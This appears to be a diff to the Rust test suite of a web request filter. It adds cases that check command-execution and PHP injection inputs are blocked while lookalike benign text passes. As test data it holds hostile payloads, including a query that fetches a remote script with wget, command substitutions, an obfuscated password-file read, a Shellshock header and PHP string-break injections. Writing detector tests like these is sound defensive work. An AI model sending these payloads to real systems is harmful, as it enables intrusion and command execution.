@@ -62,6 +62,9 @@ fn rce() {
     blocks(query("f=a|wget%20http://x/s.sh"), Class::Rce);
     blocks(query("x=$(whoami)"), Class::Rce);
     blocks(query("x=;c'a't+/e??/p*d"), Class::Rce);
+    blocks(json(r#"{"x":"%x('ls -al /')"}"#), Class::Rce);
+    blocks(query("x=qx{whoami}"), Class::Rce);
+    passes(json(r#"{"fmt":"print it with %x (hex) or %d (decimal)"}"#));
     blocks(
         inspect(&RequestView {
             headers: &[("user-agent", "() { :;}; /bin/bash -c id")],
@@ -89,6 +92,10 @@ fn php() {
     blocks(json(r#"{"d":"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"}"#), Class::Php);
     blocks(query("f=php://filter/convert.base64-encode/resource=index"), Class::Php);
     passes(text("Our site runs on PHP; call the helper with a few args (yep)."));
+    // Injected into a string, the rest of the line commented out.
+    blocks(json(r#"{"q":"';die(md5('probe'));//"}"#), Class::Php);
+    blocks(query("q=%27.halt(1)%3B%23"), Class::Php);
+    passes(json(r#"{"q":"Call init(); then run(); // see the docs"}"#));
 }
 
 #[test]
